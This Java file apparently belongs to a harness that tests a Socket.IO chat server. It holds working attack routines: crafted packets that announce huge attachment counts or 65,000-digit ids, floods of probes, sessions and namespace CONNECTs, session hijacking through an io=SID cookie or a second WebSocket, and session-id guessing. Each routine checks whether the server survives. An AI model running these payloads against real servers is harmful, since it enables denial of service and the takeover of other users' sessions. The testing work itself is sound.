package duplex.attack;

import static duplex.attack.Attacks.SOCKETIO;

import duplex.attack.Peer.Answer;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.UUID;
import java.util.stream.Stream;

/** What Engine.IO and Socket.IO add: packets that count, upgrades, and sessions that outlive a connection. */
final class SocketIoAttacks {
    private static final String WEBSOCKET = "/socket.io/?EIO=4&transport=websocket";

    private SocketIoAttacks() {}

    static Stream<Attack> all() {
        return Stream.of(
                new Attack(
                        "attachment-bomb",
                        "Packets announce 1,999,999,999 binary attachments: a server that makes room for them dies.",
                        SOCKETIO,
                        arena -> packet(
                                arena,
                                "451999999999-[\"chat message\",{\"message\":{\"_placeholder\":true,\"num\":0}}]")),
                new Attack(
                        "attachments-unsent",
                        "Packets announce attachments that are never sent: what waits for them must be let go.",
                        SOCKETIO,
                        arena -> packet(
                                arena, "4532-[\"chat message\",{\"message\":{\"_placeholder\":true,\"num\":0}}]")),
                new Attack(
                        "digit-bomb",
                        "Packet ids of 65,000 digits: reading them takes time that grows with the square.",
                        SOCKETIO,
                        arena -> packet(arena, "42" + "9".repeat(65_000) + "[\"chat message\",{\"message\":\"x\"}]")),
                new Attack(
                        "probe-flood",
                        "An upgrade is probed 20,000 times and never made.",
                        SOCKETIO,
                        SocketIoAttacks::probes),
                new Attack(
                        "unconnected",
                        "500 Engine.IO sessions are opened that never CONNECT.",
                        SOCKETIO,
                        SocketIoAttacks::unconnected),
                new Attack(
                        "namespaces",
                        "10,000 CONNECTs to namespaces that are not there, and to the one that is, again and again.",
                        SOCKETIO,
                        SocketIoAttacks::namespaces),
                new Attack(
                        "cookie-theft",
                        "A cookie io=SID names somebody else's session: netty-socketio as it comes hands it over.",
                        SOCKETIO,
                        SocketIoAttacks::cookie),
                new Attack(
                        "second-websocket",
                        "A second WebSocket comes with the id of a session that has one.",
                        SOCKETIO,
                        SocketIoAttacks::secondWebSocket),
                new Attack("sid-guessing", "Session ids are guessed.", SOCKETIO, SocketIoAttacks::guessing));
    }

    private static void packet(Arena arena, String packet) throws InterruptedException {
        arena.together(arena.count(32), number -> {
            Peer peer = arena.enter(arena.names().attacker(number));
            for (int i = 0; i < 8 && peer.push(Frames.text(packet)); i++) {
                arena.spend(1);
            }
            arena.saw(peer.fate(Duration.ofSeconds(2)));
        });
    }

    private static void probes(Arena arena) throws InterruptedException {
        byte[] probes = repeated(Frames.text("2probe"), 100);
        arena.together(4, number -> {
            String sid = sidOf(HttpAttacks.engineSession(arena));
            Peer peer = arena.open(WEBSOCKET + "&sid=" + sid, "", 4096);
            long all = (long) probes.length * Math.max(1, arena.count(20_000) / 100);
            String end = peer.flood(probes, all, Duration.ofSeconds(8));
            arena.saw(end + ", " + peer.fate(Duration.ofSeconds(2)));
        });
    }

    private static void unconnected(Arena arena) throws InterruptedException {
        arena.together(arena.count(500), number -> {
            Peer peer = arena.open(WEBSOCKET, "", 0);
            arena.saw(peer.isCut() ? "cut at once" : "opened");
        });
    }

    private static void namespaces(Arena arena) throws InterruptedException {
        arena.together(4, number -> {
            Peer peer = arena.enter(arena.names().attacker(number));
            boolean open = true;
            for (int i = 0; i < arena.count(2500) && open; i++) {
                String name = "{\"username\":" + Arena.quoted(arena.names().attacker(number)) + "}";
                open = peer.push(Frames.text(i % 2 == 0 ? "40/nowhere-" + i + "," + name : "40" + name));
            }
            arena.saw(peer.fate(Duration.ofSeconds(2)));
        });
    }

    private static void cookie(Arena arena) throws InterruptedException {
        arena.together(arena.count(20), number -> {
            Peer victim = arena.dial();
            victim.write(arena.handshake(WEBSOCKET, ""));
            if (victim.answer(Peer.PATIENCE).status() != 101) {
                throw new NotLetInException("no WebSocket");
            }
            String sid = Arena.member(victim.upgraded().await("0{", Peer.PATIENCE), "sid");
            arena.connect(victim, arena.names().attacker(number));
            Answer stolen = arena.ask("GET", "/socket.io/?EIO=4&transport=polling", "", "Cookie: io=" + sid + "\r\n");
            arena.saw("HTTP " + stolen.status());
            if (Arena.member(stolen.body(), "sid").equals(sid)) {
                arena.breach("a cookie took a live session over");
            }
            requireUnharmed(arena, victim, number);
        });
    }

    private static void secondWebSocket(Arena arena) throws InterruptedException {
        arena.together(arena.count(20), number -> {
            Peer victim = arena.open(WEBSOCKET, "", 0);
            String sid = Arena.member(victim.await("0{", Peer.PATIENCE), "sid");
            arena.connect(victim, arena.names().attacker(number));
            Peer thief = arena.dial();
            thief.write(arena.handshake(WEBSOCKET + "&sid=" + sid, ""));
            int status = thief.answer(Peer.PATIENCE).status();
            if (status == 101) {
                takeOver(arena, thief.upgraded());
            }
            arena.saw("the second: HTTP " + status);
            requireUnharmed(arena, victim, number);
        });
    }

    private static void takeOver(Arena arena, Peer thief) {
        thief.push(Frames.text("2probe"));
        thief.push(Frames.text("5"));
        thief.push(Frames.text(arena.event("chat message", "{\"message\":\"stolen\"}")));
        try {
            if (thief.hears("due~", Duration.ofSeconds(1))) {
                arena.breach("a second WebSocket heard what the session's own should");
            }
        } catch (IOException cut) {
            arena.saw("the second: " + cut.getMessage());
        }
    }

    /** The session's own owner must still be able to talk and to hear. */
    private static void requireUnharmed(Arena arena, Peer victim, int number) throws IOException {
        String word = "still-here-" + number;
        victim.push(Frames.text(arena.event("chat message", "{\"message\":\"" + word + "\"}")));
        try {
            if (victim.hears(word, Duration.ofSeconds(3))) {
                return;
            }
        } catch (IOException gone) {
            arena.saw("the owner was cut");
        }
        arena.breach("a session's owner lost it to somebody who knew its id");
    }

    private static void guessing(Arena arena) throws InterruptedException {
        arena.together(arena.count(500), number -> {
            String sid = UUID.randomUUID().toString();
            Answer answer = arena.ask("GET", "/socket.io/?EIO=4&transport=polling&sid=" + sid, "", "");
            arena.saw("HTTP " + answer.status());
            if (answer.status() == 200) {
                arena.breach("a session id that does not exist was answered");
            }
        });
    }

    private static String sidOf(String target) {
        return target.substring(target.indexOf("sid=") + 4);
    }

    private static byte[] repeated(byte[] frame, int times) {
        return new String(frame, StandardCharsets.ISO_8859_1).repeat(times).getBytes(StandardCharsets.ISO_8859_1);
    }
}
